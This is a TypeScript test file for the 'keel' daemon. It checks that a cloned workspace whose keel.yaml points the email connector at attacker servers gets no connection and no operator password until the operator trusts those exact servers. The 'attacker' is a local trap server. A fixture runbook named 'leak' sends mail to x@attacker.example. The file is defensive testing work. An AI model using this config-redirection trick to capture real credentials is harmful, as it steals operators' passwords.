/**
 * A cloned workspace's keel.yaml names an email account whose servers are the attacker's: the
 * daemon would log in there with the operator's password. Nothing connects to them (not even a
 * TCP connection) until the operator trusted the workspace with exactly those servers, and a
 * later edit that moves the account elsewhere (a `git pull`) asks again. The "attacker" here is a
 * loopback server that greets like IMAP and SMTP and counts every connection and byte.
 */
import { writeFile } from 'node:fs/promises';
import { createServer, type Server, type Socket } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, it } from 'vitest';
import {
  describeWants,
  ErrorCodes,
  KeelRpcError,
  RunStartRequest,
  TrustStateRequest,
  type TrustEndpoint,
} from '@keel/schemas';
import { ConnectorSecrets } from '../../daemon/src/connectors/credentials';
import {
  UntrustedConnectorError,
  WorkspaceConnectors,
} from '../../daemon/src/connectors/workspaceConnectors';
import { Daemon } from '../../daemon/src/daemon';
import { createLogger } from '../../daemon/src/log';
import { InProcessClient } from '../../daemon/src/rpc/inProcessClient';
import { loadConfig } from '../../daemon/src/workspace/config';
import { initWorkspace } from '../../daemon/src/workspace/init';
import { waitFor } from '../helpers/processes';
import { trust } from '../helpers/trust';
import { makeTempDirs, type TempDirs } from '../helpers/workspace';

const PASSWORD_ENV = 'KEEL_TEST_MAIL_PASSWORD';
const PASSWORD = 'operators-own-mail-password-0123';

/** A loopback server that greets each client (`* OK` or `220`) and keeps what it received. */
class MailTrap {
  connections = 0;
  received = '';
  private readonly sockets = new Set<Socket>();
  private constructor(
    private readonly server: Server,
    readonly port: number,
  ) {}

  static async start(greeting: string): Promise<MailTrap> {
    const server = createServer();
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    const trap = new MailTrap(server, typeof address === 'object' && address ? address.port : 0);
    server.on('connection', (socket) => {
      trap.connections += 1;
      trap.sockets.add(socket);
      socket.on('close', () => trap.sockets.delete(socket));
      socket.on('error', () => undefined);
      socket.on('data', (data: Buffer) => {
        trap.received += data.toString('latin1');
        // One command answered with a refusal, then hang up: the client fails fast.
        socket.end(greeting.startsWith('*') ? 'a NO go away\r\n' : '554 go away\r\n');
      });
      socket.write(`${greeting}\r\n`);
    });
    return trap;
  }

  close(): Promise<void> {
    for (const socket of this.sockets) socket.destroy();
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}

let dirs: TempDirs;
let imap: MailTrap;
let smtp: MailTrap;
let daemon: Daemon | null = null;
let client: InProcessClient;

function keelYaml(imapPort: number, smtpPort: number): string {
  return `version: 1
connectors:
  mail:
    use: email@1
    imap: { host: 127.0.0.1, port: ${imapPort}, secure: false }
    smtp: { host: 127.0.0.1, port: ${smtpPort}, secure: false }
    user: operator@keel.test
    from: Operator <operator@keel.test>
    credentials: { password: { env: ${PASSWORD_ENV} } }
`;
}

const SEND_RUNBOOK = `apiVersion: keel/v1
name: leak
role: Attacker
description: Logs in to the mail server keel.yaml names.
steps:
  - id: send
    type: connector
    use: mail
    action: send
    with: { to: "x@attacker.example", subject: "hi", text: "hi" }
`;

const endpoints = (imapPort: number, smtpPort: number): TrustEndpoint[] => [
  { purpose: 'email', origin: `imap://127.0.0.1:${imapPort}`, apiKeyEnv: PASSWORD_ENV },
  { purpose: 'email', origin: `smtp://127.0.0.1:${smtpPort}`, apiKeyEnv: PASSWORD_ENV },
];

/** The workspace's connectors as the conductor builds them: this daemon's registry and trust. */
async function connectors(): Promise<WorkspaceConnectors> {
  const { config } = await loadConfig(dirs.workspace, daemon!.connectorRegistry);
  return new WorkspaceConnectors(
    {
      workspace: dirs.workspace,
      registry: daemon!.connectorRegistry,
      secrets: new ConnectorSecrets(),
      env: process.env,
      redact: () => undefined,
      trust: daemon!.trust,
    },
    config!,
  );
}

/** What any action, probe or event poll of keel.yaml's `mail` would run with; throws if refused. */
async function mailContext() {
  const workspace = await connectors();
  const instance = workspace.find('mail');
  if (!instance) throw new Error('keel.yaml names no connector "mail"');
  return { instance, ctx: () => workspace.context(instance, 'run-1:send', new AbortController().signal) };
}

async function startRefused(): Promise<void> {
  const refused = await client
    .request(RunStartRequest, { runbook: 'leak', inputs: {} })
    .catch((e: unknown) => e);
  expect(refused).toBeInstanceOf(KeelRpcError);
  expect((refused as KeelRpcError).code).toBe(ErrorCodes.NotTrusted);
}

beforeEach(async () => {
  dirs = await makeTempDirs('keel-email-attack-');
  process.env.KEEL_RUNTIME_DIR = dirs.runtime;
  process.env[PASSWORD_ENV] = PASSWORD;
  [imap, smtp] = await Promise.all([MailTrap.start('* OK IMAP ready'), MailTrap.start('220 smtp ESMTP')]);
  await initWorkspace(dirs.workspace);
  await writeFile(join(dirs.workspace, 'keel.yaml'), keelYaml(imap.port, smtp.port));
  await writeFile(join(dirs.workspace, 'runbooks', 'leak.yaml'), SEND_RUNBOOK);
  daemon = await Daemon.start({
    workspace: dirs.workspace,
    mode: 'daemon',
    log: createLogger({ level: 'error', write: () => undefined }),
  });
  client = new InProcessClient(daemon);
});

afterEach(async () => {
  await daemon?.stop('test');
  daemon = null;
  delete process.env[PASSWORD_ENV];
  await Promise.all([imap.close(), smtp.close()]);
  await dirs.cleanup();
});

it('connects to no mail server an untrusted workspace names, and says which it would log in to', async () => {
  const state = await client.request(TrustStateRequest, {});
  expect(state.trusted).toBe(false);
  expect(state.endpoints).toEqual(endpoints(imap.port, smtp.port));
  expect(describeWants(state)).toContain(
    `Log in to the mail server smtp://127.0.0.1:${smtp.port} with the password in the environment variable ${PASSWORD_ENV}, and read or send mail there.`,
  );
  await startRefused();
  // Below the run's own check: the host hands no connector context (credential included) out.
  const { ctx } = await mailContext();
  expect(ctx).toThrow(UntrustedConnectorError);
  expect(ctx).toThrow(/has not trusted this workspace/);
  await daemon!.settled();
  expect([imap.connections, smtp.connections, imap.received + smtp.received]).toEqual([0, 0, '']);
});

it('asks again when keel.yaml moves the account to other servers after trust, and connects to none', async () => {
  const [legitImap, legitSmtp] = await Promise.all([
    MailTrap.start('* OK IMAP ready'),
    MailTrap.start('220 smtp ESMTP'),
  ]);
  try {
    await writeFile(join(dirs.workspace, 'keel.yaml'), keelYaml(legitImap.port, legitSmtp.port));
    await daemon!.reloadConfig();
    await trust(daemon!);
    expect(daemon!.trust.trusted).toBe(true);

    // A `git pull` points the account at the attacker's servers.
    await writeFile(join(dirs.workspace, 'keel.yaml'), keelYaml(imap.port, smtp.port));
    await daemon!.reloadConfig();
    const state = await waitFor('trust to be asked again', async () => {
      const current = await client.request(TrustStateRequest, {});
      return current.trusted ? null : current;
    });
    expect(state.summary).toMatch(/asked again/);
    await startRefused();
    const { ctx } = await mailContext();
    expect(ctx).toThrow(UntrustedConnectorError);
    expect([imap.connections, smtp.connections, imap.received + smtp.received]).toEqual([0, 0, '']);

    // Control: once the operator consents to exactly these servers, the same path does connect
    // (and the trap sees it), so the zero counts above are the gate's doing.
    await trust(daemon!);
    const trusted = await mailContext();
    const probe = await trusted.instance.connector.probe(trusted.ctx());
    expect(probe.ok).toBe(false);
    expect(imap.connections).toBeGreaterThan(0);
    expect(probe.detail).not.toContain(PASSWORD);
  } finally {
    await Promise.all([legitImap.close(), legitSmtp.close()]);
  }
});
